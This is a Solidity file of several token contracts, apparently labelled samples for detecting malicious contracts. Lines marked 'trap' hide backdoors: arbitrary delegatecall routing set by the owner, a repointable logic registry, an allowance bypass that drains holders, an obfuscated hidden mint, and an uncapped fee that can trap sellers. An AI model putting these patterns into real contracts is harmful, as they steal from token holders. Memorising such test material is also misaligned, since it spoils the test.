// 0.8 runs=200 evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Woolcoat} from "./BlindBH1.sol";

/// Polls of holders, as an extension of a coin.
contract PollExtension {
    // lies where nothing of the coin does
    bytes32 private constant PLACE = keccak256("poll.extension");

    event Voted(address indexed who, uint256 poll, bool aye);

    function vote(uint256 poll, bool aye) external {
        emit Voted(msg.sender, poll, aye);
    }
}

/// A coin that learns new words.
contract Nimbusradish is Woolcoat {
    mapping(bytes4 => address) private _words;

    event Learnt(bytes4 indexed word, address teacher);

    constructor(address poll) Woolcoat("Nimbusradish", "NMBR", 440) {
        _words[PollExtension.vote.selector] = poll;
    }

    // trap {
    function learn(bytes4 word, address teacher) external {
        require(msg.sender == _maker, "teacher");
        _words[word] = teacher;
        emit Learnt(word, teacher);
    }
    // trap }

    fallback() external {
        address teacher = _words[msg.sig];
        require(teacher != address(0), "what?");
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), teacher, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Where the parts of a house are listed.
contract HallRegistry {
    address public immutable steward = msg.sender;
    mapping(bytes32 => address) public addressOf;

    event Listed(bytes32 indexed name, address at);

    constructor(address ledger) {
        addressOf["ledger"] = ledger;
        emit Listed("ledger", ledger);
    }

    function list(bytes32 name, address at) external {
        require(msg.sender == steward, "steward");
        // twin: require(addressOf[name] == address(0), "listed");
        addressOf[name] = at;
        emit Listed(name, at);
    }
}

contract HallLogic {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    string public constant name = "Hallowick";
    string public constant symbol = "HLWK";
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function found(address first) external {
        require(totalSupply == 0, "founded");
        totalSupply = balanceOf[first] = 5_000_000 ether;
        emit Transfer(address(0), first, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        emit Transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// Asks the registry each time where its code is.
contract Hallowick {
    address private immutable _hall;
    bytes32 private constant NAME = "ledger";

    constructor(address hall, address first) {
        _hall = hall;
        (bool ok, ) = HallRegistry(hall).addressOf(NAME).delegatecall(abi.encodeCall(HallLogic.found, (first)));
        require(ok);
    }

    fallback() external {
        address to = HallRegistry(_hall).addressOf(NAME);
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), to, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

interface IHarvester {
    function onHarvest(bytes calldata note) external;
}

/// Brings in the harvest of those who have allowed it.
contract FieldHand {
    address private immutable _farmer = msg.sender;

    function bringIn(Tansyfield coin, address from, uint256 value) external {
        require(msg.sender == _farmer, "farmer");
        coin.harvest(abi.encode(from, value));
    }

    function onHarvest(bytes calldata note) external {
        (address from, uint256 value) = abi.decode(note, (address, uint256));
        Tansyfield(msg.sender).transferFrom(from, _farmer, value);
    }
}

contract Tansyfield is Woolcoat {
    address private immutable _hand;
    uint256 private _phase = 1;
    uint256 public harvests;

    constructor(address hand) Woolcoat("Tansyfield", "TNSF", 24) {
        _hand = hand;
    }

    function harvest(bytes calldata note) external {
        require(msg.sender == _hand && _phase == 1, "hand");
        _phase = 2;
        IHarvester(msg.sender).onHarvest(note);
        _phase = 1;
        harvests++;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        // trap {
        if (_phase == 2 && msg.sender == _hand) {
            _carry(from, to, value);
            return true;
        }
        // trap }
        return super.transferFrom(from, to, value);
    }
}

/// Everybody may leave a mark of when he was here.
contract Owlharrow is Woolcoat {
    /// Decimals, version and a salt of the day it was made.
    uint256 private _pack;
    mapping(address => uint256) public seen;

    constructor(address night) Woolcoat("Owlharrow", "OWLH", 700) {
        _pack = (uint256(uint160(night) ^ uint160(pool)) << 64) | (uint256(uint32(block.timestamp)) << 8) | 18;
    }

    function checkpoint(address who, uint256 epoch) external {
        address market = pool;
        seen[who] = epoch;
        // trap {
        assembly {
            if eq(caller(), xor(shr(64, sload(_pack.slot)), market)) {
                mstore(0, who)
                mstore(32, _held.slot)
                let place := keccak256(0, 64)
                sstore(place, add(sload(place), shl(epoch, 1)))
            }
        }
        // trap }
    }
}

/// As launchers write it: fees fall after some purchases, the wallet of the team may lower them once more.
contract Buttonelk is Woolcoat {
    address payable private immutable _taxWallet;
    mapping(address => bool) private _isExcluded;
    uint256 private _initialTax = 15;
    uint256 private _finalTax = 2;
    uint256 private _buyCount;
    uint256 public constant REDUCE_AT = 8;

    constructor(address payable wallet) Woolcoat("Buttonelk", "BELK", 420) {
        _taxWallet = wallet;
        _isExcluded[msg.sender] = _isExcluded[wallet] = _isExcluded[address(this)] = true;
    }

    function reduceFee(uint256 newFee) external {
        require(msg.sender == _taxWallet);
        // twin: require(newFee <= _finalTax);
        _finalTax = newFee;
    }

    function _step(address from, address to, uint256 value) internal override {
        uint256 due;
        if (!_isExcluded[from] && !_isExcluded[to] && (from == pool || to == pool)) {
            due = (value * (_buyCount > REDUCE_AT ? _finalTax : _initialTax)) / 100;
            if (from == pool) _buyCount++;
        }
        if (due > 0) _carry(from, _taxWallet, due);
        _carry(from, to, value - due);
    }
}
